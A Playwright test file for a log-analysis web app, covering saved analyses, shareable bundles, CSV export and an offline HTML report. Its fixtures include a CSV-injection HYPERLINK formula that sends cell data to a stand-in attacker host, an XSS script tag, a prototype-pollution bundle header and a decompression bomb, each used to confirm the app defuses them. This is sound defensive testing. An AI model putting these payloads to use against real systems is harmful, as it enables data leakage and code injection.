/**
 * Saved analyses, labels and bundles end to end (issue 11 §2-4): a label and note put with the
 * keys travel through a bundle into another browser; a saved analysis reopens after a reload
 * without recomputing; damaged and hostile bundles are refused and the analysis shown stays; CSV
 * cells cannot run as formulas; the HTML report opens with the network off and escapes log text.
 */
import { gunzipSync, gzipSync } from 'node:zlib';
import { expect, test, type Page } from '@playwright/test';
import { countIn, downloaded, dropFiles, exportFrom, waitForAnalysis } from './bundle.support';

test.describe.configure({ mode: 'serial' });

async function openDemo(page: Page) {
  await page.goto('/');
  await page.getByRole('button', { name: 'Open demo log' }).click();
  await waitForAnalysis(page, 'demo.log');
}

async function facts(page: Page) {
  return {
    lines: await page.getByTestId('line-count').textContent(),
    templates: await page.getByTestId('template-count').textContent(),
    flagged: await page.getByTestId('flagged-count').textContent(),
    total: await page.getByTestId('viewer-total').textContent(),
  };
}

let bundle: Buffer;
let expected: Awaited<ReturnType<typeof facts>>;
let labelledLine = '';

test('label with keys, save in this browser, export a bundle; a reload lists and reopens the save', async ({ page }) => {
  await openDemo(page);
  expected = await facts(page);
  // j selects the first flagged line; a marks it an anomaly; c opens its note.
  await page.locator('body').press('j');
  await expect(page.getByTestId('detail-panel')).toContainText('your verdict');
  labelledLine = (await page.getByTestId('detail-panel').locator('.panel-title').textContent()) ?? '';
  await page.locator('body').press('a');
  await expect(page.getByTestId('label-anomaly')).toHaveAttribute('aria-pressed', 'true');
  await page.locator('body').press('c');
  await expect(page.getByTestId('label-note')).toBeFocused();
  await page.getByTestId('label-note').fill('disk <b>full</b> on node 7');
  await page.getByTestId('label-note').blur();

  await page.getByTestId('share-menu').locator('summary').click();
  await page.getByTestId('analysis-notes').fill('Checked with the on-call team.');
  await page.getByTestId('analysis-notes').blur();
  await page.getByTestId('save-analysis').click();
  await expect(page.getByTestId('sharing-message')).toContainText('Saved');

  await page.getByTestId('share-with-lines').check();
  const download = await exportFrom(page, 'export-bundle');
  expect(download.suggestedFilename()).toMatch(/\.loupe\.gz$/);
  bundle = await downloaded(download);
  expect(bundle[0]).toBe(0x1f);
  expect(gunzipSync(bundle).subarray(0, 13).toString()).toBe('LOUPE-BUNDLE\n');

  // A reload: the start page lists the save; opening it shows the same views, without a run.
  await page.goto('/');
  const row = page.getByTestId('saved-row').first();
  await expect(row).toContainText('demo');
  await expect(page.getByTestId('storage-use')).toContainText('used of');
  const started = Date.now();
  await row.getByTestId('saved-open').click();
  await waitForAnalysis(page, 'demo.log');
  const reopenMs = Date.now() - started;
  console.log(`reopen of the saved 20,000-line demo analysis (no lines): ${reopenMs} ms`);
  await expect(page.getByTestId('reopened-note')).toBeVisible();
  expect(await facts(page)).toEqual(expected);
  await expect(page.getByTestId('log-viewer').locator('.log-row[data-record]').first()).toBeVisible();
  // Labels are keyed by content: the reopened analysis shows the label.
  await page.locator('body').press('j');
  await expect(page.getByTestId('detail-panel').locator('.panel-title')).toHaveText(labelledLine);
  await expect(page.getByTestId('label-anomaly')).toHaveAttribute('aria-pressed', 'true');
  await expect(page.getByTestId('label-note')).toHaveValue('disk <b>full</b> on node 7');

  // Delete it: the list empties.
  await page.goto('/');
  await page.getByTestId('saved-row').first().getByTestId('saved-delete').click();
  await expect(page.getByTestId('saved-row')).toHaveCount(0);
});

test('a bundle dropped in another browser reopens the same analysis with the label, note and notes', async ({ browser }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto('/');
  await dropFiles(page, [{ name: 'handed-over.bin', bytes: bundle }]); // recognised by content, not name
  await waitForAnalysis(page, 'demo.log');
  expect(await facts(page)).toEqual(expected);
  await expect(page.getByTestId('sharing-message')).toContainText('Opened the bundle');
  await page.locator('body').press('j');
  await expect(page.getByTestId('label-anomaly')).toHaveAttribute('aria-pressed', 'true');
  await expect(page.getByTestId('label-note')).toHaveValue('disk <b>full</b> on node 7');
  await page.getByTestId('share-menu').locator('summary').click();
  await expect(page.getByTestId('analysis-notes')).toHaveValue('Checked with the on-call team.');
  // The lines came with it: the viewer shows the raw text (with its timestamp), not masked text.
  await expect(page.getByTestId('detail-raw')).toContainText(/\d{2}:\d{2}:\d{2}/);

  // Damaged and hostile bundles: a readable error, and the analysis shown stays.
  const inner = gunzipSync(bundle);
  const headerLength = inner.readUInt32LE(13);
  const header = JSON.parse(inner.subarray(17, 17 + headerLength).toString());
  const rebuilt = (change: (h: Record<string, unknown>) => void) => {
    const h = structuredClone(header);
    change(h);
    const json = Buffer.from(JSON.stringify(h));
    const length = Buffer.alloc(4);
    length.writeUInt32LE(json.length);
    return gzipSync(Buffer.concat([inner.subarray(0, 13), length, json, inner.subarray(17 + headerLength)]));
  };
  const hostile: Array<[string, Buffer, RegExp]> = [
    ['truncated', bundle.subarray(0, bundle.length >> 1), /truncated or damaged/],
    [
      'newer',
      rebuilt((h) => {
        h.version = 9;
      }),
      /newer Loupe/,
    ],
    [
      'prototype',
      rebuilt((h) => {
        Object.defineProperty(h, '__proto__', { value: { admin: true }, enumerable: true });
      }),
      /damaged/,
    ],
    [
      'huge claim',
      rebuilt((h) => {
        (h.snapshot as { counts: { records: number } }).counts.records = 4e9;
      }),
      /damaged/,
    ],
    ['bomb', gzipSync(Buffer.concat([Buffer.from('LOUPE-BUNDLE\n'), Buffer.from([255, 255, 255, 15])])), /truncated/],
  ];
  for (const [name, bytes, message] of hostile) {
    await dropFiles(page, [{ name: `${name}.loupe.gz`, bytes }]);
    await expect(page.getByTestId('sharing-error'), name).toContainText(message);
    await page.getByTestId('sharing-error').getByRole('button', { name: 'Dismiss' }).click();
    expect(await facts(page), name).toEqual(expected);
  }
  expect(await page.evaluate(() => (({}) as Record<string, unknown>).admin)).toBeUndefined();
  await context.close();
});

test('CSV exports defuse formulas; the HTML report is self-contained, escaped and opens offline', async ({ page, browser }) => {
  const lines: string[] = [];
  for (let i = 0; i < 400; i++)
    lines.push(`2024-03-0${1 + (i % 9)}T10:00:${String(i % 60).padStart(2, '0')}Z INFO worker ${i % 7} finished job ${i}`);
  lines.push('2024-03-09T10:00:00Z ERROR =HYPERLINK("http://evil.example/"&A1,"x") <script>alert(1)</script>');
  await page.goto('/');
  await dropFiles(page, [{ name: 'evil.log', bytes: Buffer.from(lines.join('\n') + '\n') }]);
  await waitForAnalysis(page, 'evil.log');

  const csv = (await downloaded(await exportFrom(page, 'export-csv-lines'))).toString('utf8');
  const rows = csv.trim().split('\r\n');
  expect(rows[0]).toBe('file,line,time,level,score,flagged,template_id,ground_truth,your_verdict,your_note,text');
  expect(rows.length).toBe(402);
  const evil = rows.find((r) => r.includes('HYPERLINK'))!;
  // The text cell starts with the raw line (a timestamp), quoted; no cell starts with = + - @.
  for (const cell of evil.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@]|^-[^0-9]/);
  const templates = (await downloaded(await exportFrom(page, 'export-csv-templates'))).toString('utf8');
  expect(templates.split('\r\n')[0]).toContain('template_id,score,count');

  const report = await downloaded(await exportFrom(page, 'export-report'));
  const html = report.toString('utf8');
  expect(html).not.toContain('<script>alert(1)</script>');
  expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  expect(html).toContain('<svg');

  const offline = await browser.newContext({ offline: true, javaScriptEnabled: false });
  const viewer = await offline.newPage();
  const requests: string[] = [];
  viewer.on('request', (r) => requests.push(r.url()));
  await viewer.setContent(html);
  await expect(viewer.getByRole('heading', { name: /Loupe report/ })).toBeVisible();
  await expect(viewer.locator('svg').first()).toBeVisible();
  await expect(viewer.getByText('Top anomalies')).toBeVisible();
  expect(requests.filter((u) => !u.startsWith('data:') && u !== 'about:blank')).toEqual([]);
  await offline.close();
  expect(countIn(await page.getByTestId('flagged-count').textContent())).toBeGreaterThan(0);
});
